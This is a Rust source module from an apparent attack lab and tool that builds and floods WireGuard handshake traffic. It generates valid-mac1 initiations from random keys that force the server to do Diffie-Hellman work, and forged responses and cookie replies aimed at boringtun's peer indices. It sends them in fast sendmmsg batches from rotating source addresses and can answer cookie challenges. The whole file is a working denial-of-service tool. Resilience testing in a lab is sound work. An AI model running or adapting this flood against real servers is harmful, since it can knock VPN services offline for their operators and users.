//! What anyone who knows a WireGuard server's public key can send at its UDP
//! port, for the attack lab tests and the `wingress-attack` tool.
//!
//! - [`initiation`]: a real Noise IK first message from random static and
//!   ephemeral keys, with a valid mac1 (mac1 needs only the server's public
//!   key). The server has to spend a Diffie-Hellman to learn that the static
//!   key is nobody it knows.
//! - [`forged_response`]: a handshake response with a valid mac1 aimed at
//!   receiver index `slot << 8 | n`, the indices a boringtun peer in table
//!   slot `slot` hands out. Its ephemeral key and AEAD tag are random, so
//!   it can never complete a handshake.
//! - [`forged_cookie_reply`]: a cookie reply aimed at the same indices,
//!   with a random nonce and ciphertext.
//! - [`Flood`]: sends a pool of such packets with `sendmmsg`, paced or as
//!   fast as it can, rotating over source addresses bound in the
//!   namespace; optionally it answers the server's cookie replies the way
//!   an attacker who owns its addresses would (mac2 on every later packet).
//!
//! Every primitive comes from a crate (BLAKE2s and its keyed MAC from
//! `blake2`, HMAC from `hmac`, the AEADs from `chacha20poly1305`, X25519
//! from `x25519-dalek`); this module only puts them in the order of the
//! WireGuard paper (§5.4).

use std::io::IoSlice;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{bail, Context, Result};
use blake2::digest::consts::U16;
use blake2::digest::{FixedOutput, KeyInit, Mac, Update};
use blake2::{Blake2s256, Blake2sMac, Digest};
use chacha20poly1305::aead::{Aead, Payload};
use chacha20poly1305::{ChaCha20Poly1305, XChaCha20Poly1305};
use nix::errno::Errno;
use nix::sys::socket::{recv, sendmmsg, MsgFlags, MultiHeaders, SockaddrStorage};
use rand_core::{OsRng, RngCore};
use x25519_dalek::{PublicKey, StaticSecret};

use crate::impair::SplitMix64;

const CONSTRUCTION: &[u8] = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s";
const IDENTIFIER: &[u8] = b"WireGuard v1 zx2c4 Jason@zx2c4.com";
const LABEL_MAC1: &[u8] = b"mac1----";
const LABEL_COOKIE: &[u8] = b"cookie--";

/// Message sizes (WireGuard paper §5.4).
pub const INITIATION_LEN: usize = 148;
pub const RESPONSE_LEN: usize = 92;
pub const COOKIE_REPLY_LEN: usize = 64;

/// Datagrams per `sendmmsg` call.
const BATCH: usize = 64;

// === crypto in the paper's order ===

fn hash(parts: &[&[u8]]) -> [u8; 32] {
    let mut h = Blake2s256::new();
    for p in parts {
        Digest::update(&mut h, p);
    }
    h.finalize().into()
}

/// HMAC-BLAKE2s, the paper's `HMAC`.
fn hmac(key: &[u8], parts: &[&[u8]]) -> [u8; 32] {
    // HMAC takes keys of any length: this cannot fail.
    let mut m = <hmac::SimpleHmac<Blake2s256> as KeyInit>::new_from_slice(key)
        .expect("HMAC accepts any key length");
    for p in parts {
        Mac::update(&mut m, p);
    }
    m.finalize_fixed().into()
}

/// Keyed BLAKE2s with a 16-byte output, the paper's `MAC`.
fn mac(key: &[u8], msg: &[u8]) -> [u8; 16] {
    // Keys here are 16 (cookies) or 32 bytes (hashes); BLAKE2s takes up to 32.
    let mut m =
        <Blake2sMac<U16> as KeyInit>::new_from_slice(key).expect("BLAKE2s keys of up to 32 bytes");
    Update::update(&mut m, msg);
    m.finalize_fixed().into()
}

/// `KDF2`: two 32-byte outputs (new chaining key, AEAD key).
fn kdf2(ck: &[u8; 32], input: &[u8]) -> ([u8; 32], [u8; 32]) {
    let t0 = hmac(ck, &[input]);
    let t1 = hmac(&t0, &[&[1]]);
    let t2 = hmac(&t0, &[&t1, &[2]]);
    (t1, t2)
}

/// ChaCha20-Poly1305 with counter 0 (each handshake key seals once).
fn seal(key: &[u8; 32], plaintext: &[u8], aad: &[u8]) -> Vec<u8> {
    let nonce = [0u8; 12];
    ChaCha20Poly1305::new(key.into())
        .encrypt(
            (&nonce).into(),
            Payload {
                msg: plaintext,
                aad,
            },
        )
        .expect("sealing into a Vec cannot fail")
}

/// `HASH(LABEL_MAC1 || server public key)`: all a sender needs for mac1.
pub fn mac1_key(server: &[u8; 32]) -> [u8; 32] {
    hash(&[LABEL_MAC1, server])
}

/// `HASH(LABEL_COOKIE || server public key)`: the key of the server's
/// cookie replies, known to anyone who knows its public key.
pub fn cookie_key(server: &[u8; 32]) -> [u8; 32] {
    hash(&[LABEL_COOKIE, server])
}

/// Writes mac1 (over everything before it) and a zero mac2 into the last
/// 32 bytes of a handshake message.
fn finish_macs(msg: &mut [u8], mac1_key: &[u8; 32]) {
    let n = msg.len();
    let m1 = mac(mac1_key, &msg[..n - 32]);
    msg[n - 32..n - 16].copy_from_slice(&m1);
    msg[n - 16..].fill(0);
}

/// Sets mac2 = MAC(cookie, everything before mac2) on a handshake message.
pub fn set_mac2(msg: &mut [u8], cookie: &[u8; 16]) {
    let n = msg.len();
    let m2 = mac(cookie, &msg[..n - 16]);
    msg[n - 16..].copy_from_slice(&m2);
}

/// The mac1 field of a handshake message.
fn mac1_of(msg: &[u8]) -> &[u8] {
    &msg[msg.len() - 32..msg.len() - 16]
}

/// TAI64N of now: seconds + 2^62 then nanoseconds, both big-endian.
fn tai64n() -> [u8; 12] {
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default();
    let mut t = [0u8; 12];
    t[..8].copy_from_slice(&((1u64 << 62) + now.as_secs()).to_be_bytes());
    t[8..].copy_from_slice(&now.subsec_nanos().to_be_bytes());
    t
}

// === the messages ===

/// A handshake initiation to `server` from a fresh random static key and
/// ephemeral key, `sender_idx` as the initiator's index; mac1 valid, mac2
/// zero. Returns the message and the static public key it carries.
pub fn initiation(server: &[u8; 32], sender_idx: u32) -> ([u8; INITIATION_LEN], [u8; 32]) {
    let server_pub = PublicKey::from(*server);
    let static_i = StaticSecret::random_from_rng(OsRng);
    let static_pub = PublicKey::from(&static_i);
    let ephemeral = StaticSecret::random_from_rng(OsRng);
    let ephemeral_pub = PublicKey::from(&ephemeral);

    let mut msg = [0u8; INITIATION_LEN];
    msg[0] = 1;
    msg[4..8].copy_from_slice(&sender_idx.to_le_bytes());
    msg[8..40].copy_from_slice(ephemeral_pub.as_bytes());

    let ck = hash(&[CONSTRUCTION]);
    let h = hash(&[&hash(&[&ck, IDENTIFIER]), server]);
    let ck = hmac(&hmac(&ck, &[ephemeral_pub.as_bytes()]), &[&[1]]);
    let h = hash(&[&h, ephemeral_pub.as_bytes()]);
    let (ck, key) = kdf2(&ck, ephemeral.diffie_hellman(&server_pub).as_bytes());
    let encrypted_static = seal(&key, static_pub.as_bytes(), &h);
    msg[40..88].copy_from_slice(&encrypted_static);
    let h = hash(&[&h, &encrypted_static]);
    let (_, key) = kdf2(&ck, static_i.diffie_hellman(&server_pub).as_bytes());
    msg[88..116].copy_from_slice(&seal(&key, &tai64n(), &h));
    finish_macs(&mut msg, &mac1_key(server));
    (msg, *static_pub.as_bytes())
}

/// A handshake response to `server` (it is the initiator here) with a
/// valid mac1, aimed at `receiver_idx`; ephemeral key and AEAD tag random.
pub fn forged_response(
    server: &[u8; 32],
    sender_idx: u32,
    receiver_idx: u32,
    rng: &mut SplitMix64,
) -> [u8; RESPONSE_LEN] {
    let mut msg = [0u8; RESPONSE_LEN];
    msg[0] = 2;
    msg[4..8].copy_from_slice(&sender_idx.to_le_bytes());
    msg[8..12].copy_from_slice(&receiver_idx.to_le_bytes());
    fill(&mut msg[12..60], rng);
    finish_macs(&mut msg, &mac1_key(server));
    msg
}

/// A cookie reply aimed at `receiver_idx` with random nonce and ciphertext.
pub fn forged_cookie_reply(receiver_idx: u32, rng: &mut SplitMix64) -> [u8; COOKIE_REPLY_LEN] {
    let mut msg = [0u8; COOKIE_REPLY_LEN];
    msg[0] = 3;
    msg[4..8].copy_from_slice(&receiver_idx.to_le_bytes());
    fill(&mut msg[8..], rng);
    msg
}

fn fill(buf: &mut [u8], rng: &mut SplitMix64) {
    for chunk in buf.chunks_mut(8) {
        let r = rng.next_u64().to_le_bytes();
        chunk.copy_from_slice(&r[..chunk.len()]);
    }
}

/// The cookie inside a cookie reply from `server` answering a message whose
/// mac1 was `mac1`; `None` when it does not decrypt.
pub fn open_cookie_reply(server: &[u8; 32], reply: &[u8], mac1: &[u8]) -> Option<[u8; 16]> {
    if reply.len() != COOKIE_REPLY_LEN || reply[0] != 3 {
        return None;
    }
    let key = cookie_key(server);
    let plain = XChaCha20Poly1305::new((&key).into())
        .decrypt(
            reply[8..32].into(),
            Payload {
                msg: &reply[32..],
                aad: mac1,
            },
        )
        .ok()?;
    plain.try_into().ok()
}

/// The receiver index a cookie reply is for.
fn receiver_index(reply: &[u8]) -> Option<u32> {
    Some(u32::from_le_bytes(reply.get(4..8)?.try_into().ok()?))
}

// === impl Kind ===

/// What a [`Flood`] sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Handshake initiations from random keys, valid mac1.
    Initiation,
    /// Handshake responses with a valid mac1 at the slot's receiver indices.
    Response,
    /// Cookie replies at the slot's receiver indices.
    CookieReply,
}

impl Kind {
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Initiation => "initiation",
            Kind::Response => "response",
            Kind::CookieReply => "cookie-reply",
        }
    }

    /// `count` distinct packets of this kind. Sender indices are the
    /// position in the pool, so a cookie reply names the packet it answers.
    pub fn pool(self, server: &[u8; 32], slot: u32, count: usize) -> Vec<Vec<u8>> {
        let mut rng = SplitMix64::new(OsRng.next_u64());
        (0..count.max(1))
            .map(|i| {
                let idx = u32::try_from(i).unwrap_or(u32::MAX);
                // boringtun: a peer in table slot `s` uses indices `s << 8 | n`.
                let target = (slot << 8) | (idx & 0xff);
                match self {
                    Kind::Initiation => initiation(server, idx).0.to_vec(),
                    Kind::Response => forged_response(server, idx, target, &mut rng).to_vec(),
                    Kind::CookieReply => forged_cookie_reply(target, &mut rng).to_vec(),
                }
            })
            .collect()
    }
}

// === impl Flood ===

/// A flood of one [`Kind`] at one target.
#[derive(Debug, Clone)]
pub struct Flood {
    pub kind: Kind,
    /// The server's public key (mac1, cookie replies).
    pub server_key: [u8; 32],
    pub target: SocketAddr,
    /// Source addresses, each bound (port 0) in the current namespace;
    /// batches rotate over them.
    pub sources: Vec<IpAddr>,
    /// Packets per second; `None`: as fast as the sender can.
    pub rate: Option<u64>,
    pub duration: Duration,
    /// Stop after this many packets.
    pub count: Option<u64>,
    /// The peer slot forged responses and cookie replies aim at.
    pub slot: u32,
    /// Distinct packets to rotate over.
    pub pool: usize,
    /// Read the server's cookie replies and put mac2 on later handshake
    /// messages from that source, as an attacker owning its addresses can.
    pub answer_cookies: bool,
}

/// What a flood did.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct FloodReport {
    /// Datagrams the kernel accepted.
    pub sent: u64,
    pub elapsed: Duration,
    /// Cookie replies received (and decrypted) from the server.
    pub cookie_replies: u64,
    /// Failed `sendmmsg` calls (buffer full and the like).
    pub send_errors: u64,
}

impl FloodReport {
    pub fn per_second(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// One bound source address and the latest cookie the server gave it.
struct Source {
    sock: UdpSocket,
    cookie: Option<[u8; 16]>,
}

impl Flood {
    /// Sends until `duration` has passed, `count` packets went out, or
    /// `stop` is set; `each_second` gets the packets sent in every whole
    /// second.
    pub fn run(&self, stop: &AtomicBool, mut each_second: impl FnMut(u64)) -> Result<FloodReport> {
        if self.sources.is_empty() {
            bail!("no source address");
        }
        let pool = self.kind.pool(&self.server_key, self.slot, self.pool);
        let mut sources = self
            .sources
            .iter()
            .map(|ip| {
                let sock = UdpSocket::bind(SocketAddr::new(*ip, 0))
                    .with_context(|| format!("cannot bind {ip} (is it on an interface here?)"))?;
                Ok(Source { sock, cookie: None })
            })
            .collect::<Result<Vec<_>>>()?;
        let handshake = self.kind != Kind::CookieReply;
        let addrs = vec![Some(SockaddrStorage::from(self.target)); BATCH];
        let mut headers = MultiHeaders::<SockaddrStorage>::preallocate(BATCH, None);
        let mut bufs = vec![[0u8; INITIATION_LEN]; BATCH];
        let mut report = FloodReport::default();
        let (mut attempted, mut next, mut turn) = (0u64, 0usize, 0usize);
        let start = Instant::now();
        let (mut next_report, mut reported) = (start + Duration::from_secs(1), 0u64);
        loop {
            let now = Instant::now();
            if now >= next_report {
                each_second(report.sent - reported);
                reported = report.sent;
                next_report += Duration::from_secs(1);
            }
            let elapsed = now - start;
            if stop.load(Ordering::Relaxed) || elapsed >= self.duration {
                break;
            }
            let mut n = BATCH as u64;
            if let Some(count) = self.count {
                n = n.min(count.saturating_sub(attempted));
                if n == 0 {
                    break;
                }
            }
            if let Some(rate) = self.rate {
                // Everything due by now, the first packet at once.
                let due = (rate as f64 * elapsed.as_secs_f64()) as u64 + 1;
                if attempted >= due {
                    let wait = Duration::from_secs_f64((attempted + 1) as f64 / rate.max(1) as f64);
                    std::thread::sleep(wait.saturating_sub(elapsed).min(Duration::from_millis(5)));
                    continue;
                }
                n = n.min(due - attempted);
            }
            let n = n as usize;
            let src = &mut sources[turn % self.sources.len()];
            turn += 1;
            for buf in bufs.iter_mut().take(n) {
                let p = &pool[next % pool.len()];
                next += 1;
                buf[..p.len()].copy_from_slice(p);
                if let (true, Some(cookie)) = (handshake, &src.cookie) {
                    set_mac2(&mut buf[..p.len()], cookie);
                }
            }
            let len = pool[0].len();
            let iovs: Vec<[IoSlice<'_>; 1]> = bufs[..n]
                .iter()
                .map(|b| [IoSlice::new(&b[..len])])
                .collect();
            let fd = src.sock.as_raw_fd();
            attempted += n as u64;
            match sendmmsg(fd, &mut headers, &iovs, &addrs[..n], [], MsgFlags::empty()) {
                Ok(results) => report.sent += results.count() as u64,
                Err(Errno::EINTR) => {}
                Err(Errno::ENOBUFS | Errno::EAGAIN) => {
                    report.send_errors += 1;
                    std::thread::yield_now();
                }
                Err(e) => return Err(e).context("sendmmsg"),
            }
            if self.answer_cookies && handshake {
                report.cookie_replies += read_cookies(src, &self.server_key, &pool);
            }
        }
        report.elapsed = start.elapsed();
        Ok(report)
    }
}

/// Reads the cookie replies waiting on `src` and keeps the newest cookie.
fn read_cookies(src: &mut Source, server: &[u8; 32], pool: &[Vec<u8>]) -> u64 {
    let mut buf = [0u8; 256];
    let mut got = 0;
    while let Ok(n) = recv(src.sock.as_raw_fd(), &mut buf, MsgFlags::MSG_DONTWAIT) {
        let reply = &buf[..n];
        let Some(sent) = receiver_index(reply).and_then(|i| pool.get(i as usize)) else {
            continue;
        };
        if let Some(cookie) = open_cookie_reply(server, reply, mac1_of(sent)) {
            src.cookie = Some(cookie);
            got += 1;
        }
    }
    got
}

#[cfg(test)]
#[path = "attack_tests.rs"]
mod tests;
